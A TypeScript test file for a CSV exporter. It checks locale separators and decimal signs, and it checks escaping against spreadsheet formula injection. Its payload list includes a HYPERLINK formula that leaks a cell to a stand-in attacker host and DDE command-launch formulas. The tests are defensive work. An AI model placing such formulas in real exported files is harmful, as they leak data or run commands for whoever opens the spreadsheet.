import fc from 'fast-check';
import { expect, test } from 'vitest';
import { csvFormatOf, toCsv, type Cell } from '#domain/csv/csv.ts';
import { readCsv } from '../../../support/strict-csv.ts';

const english = csvFormatOf('en-US');
const spanish = csvFormatOf('es-ES');
const bare = (text: string) => text.replace(/^\uFEFF/, '');
const oneCell = (cell: Cell) => readCsv(bare(toCsv([[cell]], english)), ',')[0]?.[0];

/** Formula prefixes of spreadsheets and of vulnerability scanners. */
const PAYLOADS = [
  ...['=1+1', '=HYPERLINK("https://evil.example/?leak="&A1,"Open")', "=cmd|' /C calc'!A0", '+1+1'],
  ...['+34 600 000 000', '-2+3+cmd|calc!A0', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '\n=1+1', '＝1+1'],
];

test('a file begins with the UTF-8 byte order mark, and each line ends with CRLF', () => {
  expect(toCsv([['Ciudad', 'Población'], ['León']], english)).toBe('\uFEFFCiudad,Población\r\nLeón\r\n');
});

test('the language sets the decimal sign and the separator', () => {
  const rows = [['Height', 11.5, 12500]];
  expect(bare(toCsv(rows, english))).toBe('Height,11.5,12500\r\n');
  expect(bare(toCsv(rows, spanish))).toBe('Height;11,5;12500\r\n');
});

test('negative and tiny numbers stay numbers, and missing values stay empty', () => {
  expect(bare(toCsv([[-3.25, 0, undefined, 1]], spanish))).toBe('-3,25;0;;1\r\n');
});

test.each(PAYLOADS)('a spreadsheet does not read %j as a formula', (payload) => {
  expect(oneCell(payload)).toBe(`'${payload}`);
});

test('no separator splits a cell so that a formula starts a new one', () => {
  for (const payload of PAYLOADS) {
    const text = bare(toCsv([[`Hall 3;${payload},${payload}\r\n${payload}`]], english));
    expect(readCsv(text, ',')).toEqual(readCsv(text, ';'));
    expect(readCsv(text, ',')).toHaveLength(1);
  }
});

test('formula signs in the middle of a text are unchanged', () => {
  expect(oneCell('Sector A-1, 3 = 4 "docks" @ gate')).toBe('Sector A-1, 3 = 4 "docks" @ gate');
});

const anyText = fc.oneof(
  fc.string({ unit: 'grapheme' }),
  fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', ';', "'", 'a') }),
  fc.constantFrom(...PAYLOADS),
);

test('a strict RFC 4180 reader restores any cells, with formulas behind an apostrophe', () => {
  const table = fc.array(fc.array(anyText, { minLength: 1, maxLength: 5 }), { maxLength: 6 });
  fc.assert(
    fc.property(table, fc.constantFrom(english, spanish), (rows, format) => {
      const read = readCsv(bare(toCsv(rows, format)), format.separator);
      const unescaped = read.map((row) =>
        row.map((cell) => cell.replace(/^'(?=[=+\-@\t\r\n＝＋－＠])/u, '')),
      );
      const given = rows.map((row) => row.map((cell) => cell.replace(/^'(?=[=+\-@\t\r\n＝＋－＠])/u, '')));
      expect(unescaped).toEqual(given);
      expect(read.flat().filter((cell) => /^[=+\-@\t\r\n]/.test(cell))).toEqual([]);
    }),
    { numRuns: 500 },
  );
});

test('a reader of the file’s language restores any number', () => {
  fc.assert(
    fc.property(fc.double({ noNaN: true, noDefaultInfinity: true }), (number) => {
      const [[cell = ''] = []] = readCsv(bare(toCsv([[number]], spanish)), ';');
      expect(Number(cell.replace(',', '.'))).toBe(number + 0);
    }),
  );
});
